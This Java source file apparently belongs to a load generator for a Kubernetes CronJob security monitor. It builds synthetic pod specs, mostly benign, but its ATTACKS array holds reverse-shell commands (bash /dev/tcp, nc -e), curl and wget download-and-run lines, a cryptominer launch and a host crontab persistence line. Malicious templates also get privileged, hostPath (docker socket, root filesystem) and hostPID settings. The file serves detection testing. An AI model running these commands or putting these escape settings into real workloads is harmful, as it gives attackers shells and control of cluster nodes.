package dev.cronsentinel.loadgen;

import java.util.SplittableRandom;

/**
 * The pod template of one generated workload, rebuilt from its own seed: the root that declares it and every
 * Job and Pod a controller spawns from it write the same containers, commands and volumes, so a malicious
 * CronJob's spawned Job and Pod carry the attack too, as they do on a real cluster. Queued spawns keep only
 * the seed, not the text, so the generator's memory does not grow with the number of CronJobs waiting to fire.
 *
 * <p>The size of a template is spread on purpose: most are lean (one container, a few env vars), some are
 * rich (init container, sidecar, probes, affinity, dozens of env vars), so create bodies range over 1-5 KB
 * the way real manifests do. Fields the API server defaults at decode time ({@code terminationMessagePath},
 * {@code imagePullPolicy}, {@code dnsPolicy}, ...) are written as a real {@code requestObject} has them.
 */
final class PodTemplateBody {
    private static final String[] IMAGES = {"registry.example.com/app/worker:7.1", "postgres:16", "python:3.12-slim",
        "ghcr.io/acme/runner:1.8", "registry.example.com/platform/toolbox:4.2", "nginx:1.27", "busybox:1.36",
        "registry.example.com/data/etl:2024.11.3", "bitnami/kubectl:1.30", "amazon/aws-cli:2.17.1"};
    private static final String[] SIDECARS = {"fluent/fluent-bit:3.1", "registry.example.com/platform/envoy:1.31",
        "gcr.io/cloudsql-docker/gce-proxy:1.37"};
    /** The attacks a malicious template runs (package-visible so tests can tell malicious chains apart). */
    static final String[] ATTACKS = {
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "curl -fsSL http://203.0.113.9/x -o /tmp/k && chmod +x /tmp/k && /tmp/k -o stratum+tcp://pool.example.net:3333",
        "nc -e /bin/sh 198.51.100.7 9001",
        "wget -qO- http://203.0.113.9/m.sh | sh",
        "echo '* * * * * root curl -s http://203.0.113.9/c | sh' >> /host/etc/crontab"};
    private static final String[] HOST_PATHS = {"/var/run/docker.sock", "/", "/etc", "/root", "/run/containerd/containerd.sock", "/var/lib/kubelet"};
    private static final String[] ENV_NAMES = {"LOG_LEVEL", "APP_ENV", "REGION", "BATCH_SIZE", "WORKERS", "TIMEOUT_SECONDS",
        "S3_BUCKET", "KAFKA_BROKERS", "REDIS_HOST", "FEATURE_FLAGS", "OTEL_EXPORTER_OTLP_ENDPOINT", "HTTP_PROXY",
        "NO_PROXY", "JAVA_OPTS", "PYTHONUNBUFFERED", "TZ", "RETRY_LIMIT", "UPSTREAM_URL", "REPORT_RECIPIENTS", "CACHE_TTL"};
    private static final String[] TEAMS = {"payments", "search", "platform", "data", "ml", "growth", "sre", "billing", "web", "risk"};

    /** The pod spec as written in a create request; {@code admitted} adds what admission plugins add (responseObject of a Pod). */
    private final String spec;
    private final String admittedSpec;
    /** Labels of the pod template ({@code "k":"v",...}, no braces). */
    final String templateLabels;
    /** Extra object metadata a human puts on the root: annotations, as a JSON object. */
    final String annotations;
    final String command;
    final boolean malicious;

    PodTemplateBody(long seed, boolean malicious, String app, String restartPolicy) {
        SplittableRandom r = new SplittableRandom(seed);
        this.malicious = malicious;
        // One draw decides how rich the manifest is, so the parts grow together as they do in real manifests.
        double richness = r.nextDouble();
        richness = richness * richness;
        String team = TEAMS[r.nextInt(TEAMS.length)];
        this.templateLabels = "\"app\":\"" + app + "\",\"team\":\"" + team + "\""
                + (richness > 0.3 ? ",\"app.kubernetes.io/part-of\":\"" + team + "-platform\",\"app.kubernetes.io/managed-by\":\"helm\"" : "");
        this.command = malicious ? ATTACKS[r.nextInt(ATTACKS.length)]
                : "/app/bin/run --job " + app + " --batch-size " + r.nextInt(1000) + (richness > 0.5 ? " --report s3://reports-" + team + "/daily" : "");
        StringBuilder ann = new StringBuilder(256).append("{\"example.com/owner\":\"").append(team).append("@example.com\"");
        if (richness > 0.15) {
            ann.append(",\"example.com/description\":\"").append("Nightly reconciliation of ").append(team)
                    .append(" ledgers against the upstream exports; pages the on-call when the diff exceeds the threshold.".substring(0, 20 + r.nextInt(70)))
                    .append('"');
        }
        if (richness > 0.4) {
            ann.append(",\"example.com/runbook\":\"https://runbooks.example.com/").append(team).append('/').append(app).append('"')
                    .append(",\"example.com/git-commit\":\"").append(Long.toHexString(r.nextLong())).append(Long.toHexString(r.nextLong()).substring(0, 8)).append('"');
        }
        this.annotations = ann.append('}').toString();

        boolean init = richness > 0.55 || r.nextInt(10) == 0;
        boolean sidecar = richness > 0.7;
        boolean probes = richness > 0.45;
        int envCount = 1 + (int) (richness * 9) + r.nextInt(3);
        int extraVolumes = (int) (richness * 3.5);

        String hostPath = malicious && r.nextBoolean() ? HOST_PATHS[r.nextInt(HOST_PATHS.length)] : null;
        boolean privileged = malicious && (hostPath == null || r.nextBoolean());
        boolean hostPid = malicious && r.nextInt(4) == 0;

        StringBuilder volumes = new StringBuilder(512).append("[{\"name\":\"config\",\"configMap\":{\"name\":\"").append(app)
                .append("-config\",\"defaultMode\":420}}");
        StringBuilder mounts = new StringBuilder(256).append("[{\"name\":\"config\",\"readOnly\":true,\"mountPath\":\"/etc/app\"}");
        if (hostPath != null) {
            volumes.append(",{\"name\":\"host\",\"hostPath\":{\"path\":\"").append(hostPath).append("\",\"type\":\"\"}}");
            mounts.append(",{\"name\":\"host\",\"mountPath\":\"/host\"}");
        }
        for (int i = 0; i < extraVolumes; i++) {
            switch (i) {
                case 0 -> {
                    volumes.append(",{\"name\":\"credentials\",\"secret\":{\"secretName\":\"").append(app).append("-credentials\",\"defaultMode\":420}}");
                    mounts.append(",{\"name\":\"credentials\",\"readOnly\":true,\"mountPath\":\"/var/run/secrets/app\"}");
                }
                case 1 -> {
                    volumes.append(",{\"name\":\"scratch\",\"emptyDir\":{\"sizeLimit\":\"2Gi\"}}");
                    mounts.append(",{\"name\":\"scratch\",\"mountPath\":\"/scratch\"}");
                }
                default -> {
                    volumes.append(",{\"name\":\"data\",\"persistentVolumeClaim\":{\"claimName\":\"").append(app).append("-data\"}}");
                    mounts.append(",{\"name\":\"data\",\"mountPath\":\"/data\",\"subPath\":\"").append(team).append("\"}");
                }
            }
        }
        String mountList = mounts.append(']').toString();

        StringBuilder env = new StringBuilder(envCount * 60);
        for (int i = 0; i < envCount; i++) {
            env.append(i == 0 ? "" : ",").append("{\"name\":\"").append(ENV_NAMES[i % ENV_NAMES.length]);
            if (i >= ENV_NAMES.length) {
                env.append('_').append(i / ENV_NAMES.length);
            }
            int form = r.nextInt(10);
            if (form < 7) {
                env.append("\",\"value\":\"").append(Long.toString(r.nextLong() & Long.MAX_VALUE, 36)).append("\"}");
            } else if (form < 9) {
                env.append("\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"").append(app).append("-credentials\",\"key\":\"key-").append(i).append("\"}}}");
            } else {
                env.append("\",\"valueFrom\":{\"fieldRef\":{\"apiVersion\":\"v1\",\"fieldPath\":\"metadata.namespace\"}}}");
            }
        }

        String securityContext = privileged ? "{\"privileged\":true}"
                : "{\"allowPrivilegeEscalation\":false,\"runAsNonRoot\":true,\"readOnlyRootFilesystem\":" + (richness > 0.2) + ",\"capabilities\":{\"drop\":[\"ALL\"]}}";
        StringBuilder containers = new StringBuilder(2048).append('[');
        container(containers, "main", malicious ? "busybox:1.36" : IMAGES[r.nextInt(IMAGES.length)], "[\"/bin/sh\",\"-c\"]",
                "[\"" + command + "\"]", env, r.nextInt(4) + 1, mountList, probes, securityContext);
        if (sidecar) {
            containers.append(',');
            container(containers, "proxy", SIDECARS[r.nextInt(SIDECARS.length)], null, "[\"--log-level=info\",\"--port=9901\"]",
                    null, 1, "[{\"name\":\"config\",\"readOnly\":true,\"mountPath\":\"/etc/proxy\"}]", false, securityContext);
        }
        String containerList = containers.append(']').toString();
        String initContainers = "";
        if (init) {
            StringBuilder ic = new StringBuilder(512).append(",\"initContainers\":[");
            container(ic, "wait-for-deps", "busybox:1.36", "[\"/bin/sh\",\"-c\"]",
                    "[\"until nc -z " + team + "-db 5432; do echo waiting; sleep 2; done\"]", null, 1, "[]", false, securityContext);
            initContainers = ic.append(']').toString();
        }
        String nodePlacement = "";
        if (richness > 0.35) {
            nodePlacement = ",\"nodeSelector\":{\"kubernetes.io/os\":\"linux\",\"node.example.com/pool\":\"batch\"}"
                    + ",\"tolerations\":[{\"key\":\"dedicated\",\"operator\":\"Equal\",\"value\":\"batch\",\"effect\":\"NoSchedule\"}]";
        }
        if (richness > 0.6) {
            nodePlacement += ",\"affinity\":{\"nodeAffinity\":{\"requiredDuringSchedulingIgnoredDuringExecution\":{\"nodeSelectorTerms\":[{\"matchExpressions\":"
                    + "[{\"key\":\"topology.kubernetes.io/zone\",\"operator\":\"In\",\"values\":[\"eu-west-1a\",\"eu-west-1b\"]}]}]}},"
                    + "\"podAntiAffinity\":{\"preferredDuringSchedulingIgnoredDuringExecution\":[{\"weight\":100,\"podAffinityTerm\":{\"labelSelector\":"
                    + "{\"matchLabels\":{\"app\":\"" + app + "\"}},\"topologyKey\":\"kubernetes.io/hostname\"}}]}}";
        }
        String common = "\"containers\":" + containerList + initContainers
                + ",\"restartPolicy\":\"" + restartPolicy + "\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\""
                + ",\"serviceAccountName\":\"" + (malicious ? "default" : app) + "\",\"serviceAccount\":\"" + (malicious ? "default" : app) + "\""
                + (hostPid ? ",\"hostPID\":true" : "")
                + ",\"securityContext\":" + (privileged ? "{}" : "{\"runAsUser\":10001,\"fsGroup\":10001,\"seccompProfile\":{\"type\":\"RuntimeDefault\"}}")
                + (richness > 0.5 ? ",\"imagePullSecrets\":[{\"name\":\"registry-example-com\"}]" : "")
                + nodePlacement
                + ",\"schedulerName\":\"default-scheduler\",\"enableServiceLinks\":true,\"preemptionPolicy\":\"PreemptLowerPriority\"";
        this.spec = "{\"volumes\":" + volumes + "]," + common + "}";
        // The ServiceAccount admission plugin adds the projected token volume and the DefaultTolerationSeconds
        // plugin two tolerations; a Pod's responseObject shows them, its requestObject does not.
        this.admittedSpec = "{\"volumes\":" + volumes + ",{\"name\":\"kube-api-access-" + Long.toString(seed & 0xffffff, 36)
                + "\",\"projected\":{\"sources\":[{\"serviceAccountToken\":{\"expirationSeconds\":3607,\"path\":\"token\"}},"
                + "{\"configMap\":{\"name\":\"kube-root-ca.crt\",\"items\":[{\"key\":\"ca.crt\",\"path\":\"ca.crt\"}]}},"
                + "{\"downwardAPI\":{\"items\":[{\"path\":\"namespace\",\"fieldRef\":{\"apiVersion\":\"v1\",\"fieldPath\":\"metadata.namespace\"}}]}}],\"defaultMode\":420}}],"
                + common + ",\"priority\":0}";
    }

    /** The pod spec as the client sent it. */
    String spec() {
        return spec;
    }

    /** The pod spec as the API server stored it (Pods only: admission plugins mutate Pods, not templates). */
    String admittedSpec() {
        return admittedSpec;
    }

    private static void container(StringBuilder b, String name, String image, String command, String args, CharSequence env,
            int ports, String mounts, boolean probes, String securityContext) {
        b.append("{\"name\":\"").append(name).append("\",\"image\":\"").append(image).append('"');
        if (command != null) {
            b.append(",\"command\":").append(command);
        }
        b.append(",\"args\":").append(args);
        if (ports > 1) {
            b.append(",\"ports\":[{\"name\":\"http\",\"containerPort\":8080,\"protocol\":\"TCP\"},{\"name\":\"metrics\",\"containerPort\":9090,\"protocol\":\"TCP\"}]");
        }
        if (env != null && env.length() > 0) {
            b.append(",\"env\":[").append(env).append(']');
        }
        b.append(",\"resources\":{\"limits\":{\"cpu\":\"500m\",\"memory\":\"256Mi\"},\"requests\":{\"cpu\":\"100m\",\"memory\":\"128Mi\"}}");
        b.append(",\"volumeMounts\":").append(mounts);
        if (probes) {
            b.append(",\"livenessProbe\":{\"httpGet\":{\"path\":\"/healthz\",\"port\":8080,\"scheme\":\"HTTP\"},\"initialDelaySeconds\":10,")
                    .append("\"timeoutSeconds\":1,\"periodSeconds\":10,\"successThreshold\":1,\"failureThreshold\":3}");
        }
        b.append(",\"terminationMessagePath\":\"/dev/termination-log\",\"terminationMessagePolicy\":\"File\",\"imagePullPolicy\":\"IfNotPresent\"")
                .append(",\"securityContext\":").append(securityContext).append('}');
    }
}
